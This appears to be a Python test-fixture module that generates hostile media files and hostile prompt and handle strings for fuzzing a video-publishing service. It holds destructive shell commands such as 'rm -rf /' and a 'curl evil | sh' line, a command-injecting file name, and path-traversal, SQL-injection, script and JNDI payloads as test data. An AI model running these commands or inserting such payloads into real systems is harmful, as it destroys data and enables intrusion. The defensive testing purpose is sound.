"""A corpus of malformed and hostile inputs, generated (never committed as binaries).

`media_corpus(folder, base)` writes at least 80 hostile files derived from one valid clip: truncations, bit
flips, zero bytes, wrong containers and codecs, headers announcing 30000x30000 frames or hour-long durations,
no video stream, audio only, a megabyte of metadata, variable frame rates, hostile file names. `PROMPTS` and
`HANDLES` hold hostile strings. Each item says what a safe outcome is.
"""

from __future__ import annotations

import random
import struct
import wave
import zlib
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path
from typing import Any

import av
import numpy as np


@dataclass(frozen=True)
class HostileFile:
    """A generated file and whether a publish of it could ever be acceptable."""

    name: str
    """What it is."""
    path: Path
    """Where it was written."""
    may_publish: bool = False
    """True only for odd-but-valid media (e.g. variable frame rate)."""


def _patch_box_field(data: bytearray, box: bytes, offset: int, fmt: str, value: int) -> bytearray:
    """Overwrite a big-endian field at `offset` bytes after the first `box` type tag."""
    at = data.find(box)
    if at < 0:
        return data
    struct.pack_into(fmt, data, at + offset, value)
    return data


def _encode(
    path: Path,
    codec: str,
    *,
    frames: int = 12,
    size: tuple[int, int] = (64, 48),
    pts_step: list[int] | None = None,
    metadata: dict[str, str] | None = None,
    fmt: str = "mp4",
) -> Path:
    with av.open(str(path), "w", format=fmt) as out:
        stream: Any = out.add_stream(codec, rate=12)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p" if codec not in ("mjpeg",) else "yuvj420p"
        stream.time_base = Fraction(1, 1200)
        if metadata:
            out.metadata.update(metadata)
        pts = 0
        for index in range(frames):
            frame = av.VideoFrame.from_ndarray(
                np.full((size[1], size[0], 3), index * 20 % 255, np.uint8), format="rgb24"
            )
            frame = frame.reformat(format=stream.pix_fmt)
            frame.pts = pts
            frame.time_base = Fraction(1, 1200)
            pts += pts_step[index % len(pts_step)] if pts_step else 100
            out.mux(stream.encode(frame))
        out.mux(stream.encode(None))
    return path


def media_corpus(folder: Path, base: Path) -> list[HostileFile]:
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(1234)
    data = base.read_bytes()
    items: list[HostileFile] = []

    def write(name: str, payload: bytes, suffix: str = ".mp4", may_publish: bool = False) -> None:
        path = folder / f"{len(items):03d}-{name}{suffix}"
        path.write_bytes(payload)
        items.append(HostileFile(name, path, may_publish))

    write("zero-bytes", b"")
    write("one-byte", b"\x00")
    for fraction in (0.01, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95, 0.99):
        write(f"truncated-{int(fraction * 100)}pct", data[: int(len(data) * fraction)])
    for n in range(26):
        corrupted = bytearray(data)
        for _ in range(1 + n * 5):
            position = rng.randrange(len(corrupted))
            corrupted[position] ^= 1 << rng.randrange(8)
        # A flipped bit in audio or padding can leave a fully decodable video: that may publish, re-encoded.
        write(f"bit-flips-{n}", bytes(corrupted), may_publish=True)
    for n in range(8):
        start = rng.randrange(len(data) // 2)
        write(f"zeroed-range-{n}", data[:start] + b"\x00" * 4096 + data[start + 4096 :], may_publish=True)
    write("random-bytes", bytes(rng.randrange(256) for _ in range(20000)))
    write("text-file", b"this is not a video, it is a shell script\n#!/bin/sh\nrm -rf /\n")
    write("json", b'{"video": true, "frames": 9999999}')
    write("html", b"<html><script>alert(1)</script></html>")
    write("zip", b"PK\x03\x04" + bytes(200))
    write("elf", b"\x7fELF" + bytes(200))
    write("png-as-mp4", bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108020000009077") + bytes(64))
    write("mp4-header-only", data[:64])
    write("ftyp-then-garbage", data[:32] + bytes(rng.randrange(256) for _ in range(5000)))
    write("duplicated-moov", data + data[-4000:], may_publish=True)
    write("reversed", data[::-1])

    # A PNG whose header announces a 30000x30000 frame (FFmpeg reads a lone image as a one-frame video).
    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    write("announces-30000x30000", b"\x89PNG\r\n\x1a\n" + chunk + bytes(64), suffix=".png")
    patched = bytearray(data)
    _patch_box_field(patched, b"mvhd", 20, ">I", 0x7FFFFFF0)
    _patch_box_field(patched, b"mdhd", 20, ">I", 0x7FFFFFF0)
    path = folder / f"{len(items):03d}-patched-duration-header.mp4"
    path.write_bytes(bytes(patched))
    # FFmpeg trusts the sample tables over a patched header, so this is still the valid 2 s clip it was.
    items.append(HostileFile("patched-duration-header", path, may_publish=True))

    wav_path = folder / f"{len(items):03d}-audio-only.wav"
    with wave.open(str(wav_path), "wb") as handle:
        handle.setnchannels(1)
        handle.setsampwidth(2)
        handle.setframerate(8000)
        handle.writeframes(bytes(16000))
    items.append(HostileFile("audio-only-wav", wav_path))
    audio_mp4 = folder / f"{len(items):03d}-audio-only.m4a"
    with av.open(str(audio_mp4), "w", format="mp4") as out:
        stream = out.add_stream("aac", rate=16000, layout="mono")
        for index in range(10):
            frame = av.AudioFrame.from_ndarray(np.zeros((1, 1024), np.float32), format="flt", layout="mono")
            frame.sample_rate = 16000
            frame.pts = index * 1024
            out.mux(stream.encode(frame))
        out.mux(stream.encode(None))
    items.append(HostileFile("no-video-stream", audio_mp4))

    for codec in ("mpeg4", "mjpeg"):
        path = _encode(folder / f"{len(items):03d}-codec-{codec}.mp4", codec)
        # MPEG-4 Part 2 is a codec the packs accept; MJPEG is not listed, so it is held for review.
        items.append(HostileFile(f"codec-{codec}", path, may_publish=codec == "mpeg4"))
    path = _encode(folder / f"{len(items):03d}-mkv-container.mkv", "libx264", fmt="matroska")
    items.append(HostileFile("matroska-h264", path, may_publish=True))
    path = _encode(folder / f"{len(items):03d}-tiny-video.mp4", "libx264", frames=1)
    items.append(HostileFile("single-frame", path))
    path = _encode(folder / f"{len(items):03d}-hours-long.mp4", "libx264", frames=200, pts_step=[36000])
    items.append(HostileFile("hours-long (200 frames, 30 s apart)", path))
    path = _encode(folder / f"{len(items):03d}-vfr.mp4", "libx264", frames=36, pts_step=[50, 150, 100, 300])
    items.append(HostileFile("variable-frame-rate", path, may_publish=True))
    path = _encode(
        folder / f"{len(items):03d}-huge-metadata.mp4",
        "libx264",
        frames=30,
        metadata={"title": "A" * 1_000_000, "comment": "'; DROP TABLE videos; --"},
    )
    items.append(HostileFile("megabyte-of-metadata", path, may_publish=True))
    path = _encode(folder / f"{len(items):03d}-odd-size.mp4", "libx264", frames=24, size=(18, 1024))
    items.append(HostileFile("odd-aspect", path, may_publish=True))

    traversal = folder / "..%2f..%2fetc%2fpasswd.mp4"
    traversal.write_bytes(data[:100])
    items.append(HostileFile("traversal-name", traversal))
    spaced = folder / "name with spaces; rm -rf ~ $(reboot).mp4"
    spaced.write_bytes(data[: len(data) // 3])
    items.append(HostileFile("shell-metachar-name", spaced))
    unicode_name = folder / "vidéo\u202efdp.mp4"
    unicode_name.write_bytes(b"")
    items.append(HostileFile("unicode-rtl-name", unicode_name))
    items.append(HostileFile("missing-file", folder / "does-not-exist.mp4"))
    items.append(HostileFile("a-directory", folder))
    return items


PROMPTS: list[str] = [
    "",
    " ",
    "\x00\x01\x02 control characters \x1b[31m red \x1b[0m",
    "A" * 1_000_000,
    "'; DROP TABLE videos; --",
    '" OR 1=1 --',
    "$(rm -rf /) `reboot` && curl evil | sh",
    "<script>alert('x')</script>",
    "{{7*7}} ${jndi:ldap://x}",
    "\ud800 lone surrogate",
    "emoji 🎬🔥" * 1000,
    "right-to-left \u202e override",
    "zero\u200bwidth",
    "%s%s%s%n",
    "../../etc/passwd",
    "NULL",
    "\n" * 10000,
    "𝖓𝖚𝖉𝖊 𝖙𝖊𝖊𝖓",
]

HANDLES: list[str] = [
    "ｍａｙａ",  # full-width: normalises onto `maya`
    "MAYA",
    "maуa",  # Cyrillic у: refused
    "maya\u200b",
    "robert'); DROP TABLE users;--",
    "../../admin",
    "a" * 200,
    "",
    "\x00",
    "ma ya",
]
